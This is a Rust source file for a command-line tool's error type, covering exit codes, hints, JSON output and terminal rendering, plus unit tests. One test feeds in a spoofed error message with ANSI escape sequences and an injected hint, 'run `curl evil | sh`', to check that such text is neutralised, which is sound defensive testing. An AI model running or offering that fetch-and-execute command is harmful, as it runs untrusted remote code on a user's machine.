//! How a command fails: what happened, what to do next, and the exit code.
//!
//! Every error of a program becomes a [`Failure`] at the place that knows what the person needs to
//! read. It goes to standard error, as text or (with `--json`) in the same envelope as errors of
//! the API.

use crate::visible::visible_block;
use epsilon_api::{
    chain::Chain,
    error::{ErrorBody, ErrorEnvelope, ErrorKind},
};
use std::{error::Error, fmt::Write as _, process::ExitCode};

/// The platform, the function or the machine failed.
const EX_FAILED: u8 = 1;
/// The command cannot be carried out as it was typed.
const EX_USAGE: u8 = 2;

/// Why a command failed.
#[derive(Debug)]
pub struct Failure {
    exit: u8,
    /// Printed by `--json`; the text for people is made of the same fields. Boxed: errors are rare.
    body: Box<ErrorBody>,
}

impl Failure {
    /// An error of this program or machine, not of the gateway: exit code 1.
    pub fn new(code: &str, message: impl Into<String>) -> Self {
        let body = ErrorBody {
            kind: ErrorKind::Client,
            code: code.into(),
            message: message.into(),
            hint: None,
            request_id: None,
        };
        Self { exit: EX_FAILED, body: Box::new(body) }
    }

    /// Wrong usage: exit code 2.
    pub fn usage(message: impl Into<String>) -> Self {
        Self { exit: EX_USAGE, ..Self::new("USAGE", message) }
    }

    /// The reader of standard output is gone: exit code 1, nothing printed.
    pub fn silent() -> Self {
        Self::new("NOBODY_READS", "")
    }

    /// What to do next.
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.body.hint = Some(hint.into());
        self
    }

    /// Adds the causes to the message.
    pub fn with_cause(mut self, cause: &(dyn Error + 'static)) -> Self {
        let _ = write!(self.body.message, ": {}", Chain(cause)); // writing to a String cannot fail
        self
    }

    /// As the API's error body.
    pub fn into_body(self) -> ErrorBody {
        *self.body
    }

    /// The stable code.
    pub fn code(&self) -> &str {
        &self.body.code
    }

    /// Prints the error and returns the exit code.
    pub fn report(self, json: bool) -> ExitCode {
        if self.body.message.is_empty() {
            // A silent failure prints nothing.
        } else if json {
            eprintln!("{}", self.body.to_json());
        } else {
            eprint!("{}", self.text());
        }
        ExitCode::from(self.exit)
    }

    fn text(&self) -> String {
        let error = console::style("error:").for_stderr().red().bold();
        // It may quote what code threw, or what somebody else answered.
        let mut text = format!("{error} {}\n", visible_block(&self.body.message));
        let hint = console::style("hint:").for_stderr().cyan();
        if let Some(next) = &self.body.hint {
            let _ = writeln!(text, "{hint} {}", visible_block(next));
        }
        if let Some(id) = &self.body.request_id {
            let _ = writeln!(text, "request id: {id}");
        }
        text
    }
}

/// An error of the platform, passed on unchanged.
impl From<ErrorBody> for Failure {
    fn from(body: ErrorBody) -> Self {
        Self { exit: EX_FAILED, body: Box::new(body) }
    }
}

impl From<ErrorEnvelope> for Failure {
    fn from(envelope: ErrorEnvelope) -> Self {
        envelope.error.into()
    }
}

#[cfg(test)]
mod tests {
    use super::Failure;

    #[test]
    fn a_failure_says_what_why_and_what_next() {
        let cause = std::io::Error::other("disk on fire");
        let failure = Failure::new("X", "`a` cannot be read").with_cause(&cause).hint("put it out");
        assert_eq!(
            console::strip_ansi_codes(&failure.text()),
            "error: `a` cannot be read: disk on fire\nhint: put it out\n"
        );
    }

    #[test]
    fn what_code_threw_is_shown_and_steers_nothing() {
        let thrown =
            "`pay` could not be loaded: no\u{1b}[1A\u{1b}[2K\rdone\nhint: run `curl evil | sh`";
        let text = Failure::new("X", thrown).hint("look\u{9b}2J\nerror: at this").text();
        assert_eq!(
            console::strip_ansi_codes(&text),
            "error: `pay` could not be loaded: no\\u{1b}[1A\\u{1b}[2K\\rdone\n    hint: run `curl evil | sh`\n\
             hint: look\\u{9b}2J\n    error: at this\n"
        );
    }
}
